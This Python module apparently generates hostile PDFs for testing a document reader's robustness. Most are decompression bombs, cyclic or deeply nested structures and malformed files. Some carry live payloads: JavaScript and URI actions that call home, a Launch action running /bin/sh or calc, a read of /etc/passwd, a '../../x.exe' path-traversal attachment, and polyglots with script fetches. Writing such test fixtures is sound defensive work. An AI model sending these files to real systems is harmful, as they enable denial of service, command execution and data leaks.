"""PDF made to take memory or time, to run, to call home, or to be something else."""

import zlib
from io import BytesIO
from zipfile import ZipFile

from .shelf import OWN, file

HEAD = b"%PDF-1.7\n"
TEXT = f"BT /F1 12 Tf 60 700 Td ({OWN}) Tj ET".encode()
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
PAGE = (
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
    b"/Resources<</Font<</F1 5 0 R>>>>%s>>"
)


def stream(body: bytes, words: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(body), words, body)


def pdf(*objects: bytes, root: bytes = b"/Root 1 0 R", size: int = 0) -> bytes:
    """A PDF of the objects 1, 2, 3 and so on."""
    out = bytearray(HEAD)
    places = []
    for number, each in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer<</Size %d%s>>\n" % (size or len(objects) + 1, root)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def paper(
    content: bytes = b"", *, catalog: bytes = b"", page: bytes = b"", more: tuple[bytes, ...] = ()
) -> bytes:
    """One page of `content`; `more` are the objects from 6 on."""
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        PAGE % page,
        content or stream(TEXT),
        FONT,
        *more,
    )


def zeros(megabytes: int, byte: bytes = b"\0") -> bytes:
    machine = zlib.compressobj(1)
    parts = [machine.compress(byte * (1 << 20)) for _ in range(megabytes)]
    return b"".join([*parts, machine.flush()])


@file("stream-bomb.pdf", "crash")
def _(url):
    return paper(stream(zeros(600, b" "), b"/Filter/FlateDecode"))


@file("nested-stream-bomb.pdf", "crash")
def _(url):
    body = zeros(600, b" ")
    for _ in range(5):
        body = zlib.compress(body)
    return paper(stream(body, b"/Filter[" + b"/FlateDecode" * 6 + b"]"))


@file("predictor-bomb.pdf", "This PDF holds no text")
def _(url):
    words = b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2000000000/Colors 4>>"
    return paper(stream(zeros(50), words))


@file("run-length-bomb.pdf", "This PDF holds no text")
def _(url):
    return paper(stream(b"\x81 " * 2_000_000 + b"\x80", b"/Filter/RunLengthDecode"))


@file("huge-count.pdf")
def _(url):
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 2147483647/Kids[3 0 R]>>",
        PAGE % b"",
        stream(TEXT),
        FONT,
    )


@file("cyclic-pages.pdf", "This PDF could not be read")
def _(url):
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 9/Kids[2 0 R 3 0 R 2 0 R]/Parent 2 0 R>>",
        PAGE % b"",
        stream(TEXT),
        FONT,
    )


@file("deep-pages.pdf", "This PDF could not be read")
def _(url):
    deep = [
        b"<</Type/Pages/Count 1/Kids[%d 0 R]/Parent %d 0 R>>" % (number + 1, number - 1)
        for number in range(6, 20_000)
    ]
    return pdf(
        b"<</Type/Catalog/Pages 6 0 R>>", b"null", PAGE % b"", stream(TEXT), FONT, *deep,
        PAGE % b"",
    )  # fmt: skip


@file("billion-objects.pdf")
def _(url):
    return (
        paper()
        .replace(b"xref\n0 6\n", b"xref\n0 1000000000\n")
        .replace(b"/Size 6", b"/Size 1000000000")
    )


@file("long-cross-reference.pdf", "This PDF could not be read")
def _(url):
    table = stream(zeros(200), b"/Type/XRef/Size 100000000/W[1 8 8]/Root 1 0 R/Filter/FlateDecode")
    return HEAD + b"1 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF" % len(HEAD)


@file("object-streams-of-themselves.pdf")
def _(url):
    own = stream(zlib.compress(b"6 0 7 10 <<>> <<>>"),
                 b"/Type/ObjStm/N 100000000/First 10/Extends 6 0 R/Filter/FlateDecode")  # fmt: skip
    return paper(more=(own,))


@file("nested-arrays.pdf")
def _(url):
    return paper(catalog=b"/Names " + b"[" * 500_000 + b"]" * 500_000)


@file("nested-brackets-alone.pdf", "This PDF could not be read")
def _(url):
    return HEAD + b"<<" * 1_000_000


@file("forms-of-forms.pdf", "crash")
def _(url):
    forms = [
        stream(b"/X Do " * 20, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"
                               b"/Resources<</XObject<</X %d 0 R>>>>" % (number + 1))
        for number in range(6, 26)
    ]  # fmt: skip
    last = stream(TEXT, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    page = PAGE.replace(b"/Resources<<", b"/Resources<</XObject<</X 6 0 R>>") % b""
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        page,
        stream(b"/X Do"),
        FONT,
        *forms,
        last,
    )


@file("million-operators.pdf", "crash")
def _(url):
    return paper(stream(zlib.compress(b"q " * 3_000_000 + TEXT), b"/Filter/FlateDecode"))


@file("million-letters-on-a-page.pdf")
def _(url):
    shown = b"BT /F1 1 Tf " + b"0 0 Td (aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) Tj " * 50_000
    return paper(stream(zlib.compress(shown + b"ET"), b"/Filter/FlateDecode"))


@file("enormous-page.pdf")
def _(url):
    return paper().replace(b"[0 0 595 842]", b"[0 0 1e30 -1e30]")


@file("huge-image.pdf")
def _(url):
    image = stream(
        zeros(100),
        b"/Type/XObject/Subtype/Image/Width 50000/Height 50000/BitsPerComponent 8"
        b"/ColorSpace/DeviceRGB/Filter/FlateDecode",
    )
    page = PAGE.replace(b"/Resources<<", b"/Resources<</XObject<</X 6 0 R>>") % b""
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        page,
        stream(b"q 500 0 0 700 0 0 cm /X Do Q"),
        FONT,
        image,
    )


@file("javascript.pdf")
def _(url):
    action = f"<</S/JavaScript/JS(app.launchURL('{url}/js'); this.submitForm('{url}/f'))>>"
    return paper(catalog=b"/OpenAction " + action.encode())


@file("launch.pdf")
def _(url):
    action = b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>"
    return paper(catalog=b"/OpenAction " + action, page=b"/AA<</O " + action + b">>")


@file("calls-home.pdf")
def _(url):
    where = url.encode()
    outer = b"<</F<</FS/URL/F(" + where + b"/stream)>>/Length 0>>stream\n\nendstream"
    link = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 600 900]/A<</S/URI/URI(%s)>>>>]" % where
    return paper(catalog=b"/OpenAction<</S/URI/URI(%s)>>" % where, page=link, more=(outer,))


@file("reads-a-file.pdf", "This PDF holds no text")
def _(url):
    outer = b"<</F(/etc/passwd)/FFilter/FlateDecode/Length 0>>stream\n\nendstream"
    return paper(outer)


@file("embedded-files.pdf")
def _(url):
    inner = stream(zeros(300), b"/Type/EmbeddedFile/Filter/FlateDecode")
    files = b"/Names<</EmbeddedFiles<</Names[(../../x.exe)<</F(../../x.exe)/EF<</F 6 0 R>>>>]>>>>"
    return paper(catalog=files, more=(inner,))


@file("encrypted.pdf", "This PDF could not be read")
def _(url):
    from reportlab.pdfgen.canvas import Canvas

    out = BytesIO()
    canvas = Canvas(out, encrypt="a secret")
    canvas.drawString(60, 700, OWN)
    canvas.save()
    return out.getvalue()


@file("unknown-encryption.pdf", "This PDF could not be read")
def _(url):
    root = b"/Root 1 0 R/Encrypt<</Filter/Own/V 99/R 99/Length 4096>>/ID[<00><00>]"
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 0/Kids[]>>", root=root)


@file("cut-short.pdf", "This PDF could not be read")
def _(url):
    return paper()[:-120]


@file("cut-very-short.pdf", "This PDF could not be read")
def _(url):
    return paper()[:60]


@file("nothing-but-a-mark.pdf", "This PDF could not be read")
def _(url):
    return b"%PDF-1.7"


@file("no-pages.pdf", "This PDF could not be read")
def _(url):
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 0/Kids[]>>")


@file("noise.pdf", "This PDF could not be read")
def _(url):
    return HEAD + bytes(place * 197 % 251 for place in range(200_000))


@file("zip-and-page-too.pdf")
def _(url):
    inner = BytesIO()
    with ZipFile(inner, "w") as package:
        package.writestr("word/document.xml", "<x/>")
    return paper() + b"<html><script>fetch('%s')</script>" % url.encode() + inner.getvalue()


@file("page-before-a-paper.html")
def _(url):
    return b"<html><script>alert(1)</script>\n" + paper()


@file("font-that-names-everything.pdf")
def _(url):
    ranges = b"".join(b"<%04x> <%04x> <0041>\n" % (n, n) for n in range(60_000))
    names = b"/CIDInit /ProcSet findresource begin 100000 beginbfrange\n" + ranges + b"endbfrange"
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>"
    return paper(more=(stream(names),)).replace(FONT, font.ljust(len(FONT)))


@file("many-pages.pdf", "This file holds more than 5 million characters of text")
def _(url):
    count, line = 10_000, OWN.encode() * 8
    kids = b" ".join(b"%d 0 R" % (number + 6) for number in range(count))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 5950 842]/Contents 4 0 R" \
           b"/Resources<</Font<</F1 5 0 R>>>>>>"  # fmt: skip
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, kids),
        b"null",
        stream(b"BT /F1 12 Tf 60 700 Td (%s) Tj ET" % line),
        FONT,
        *[page] * count,
    )
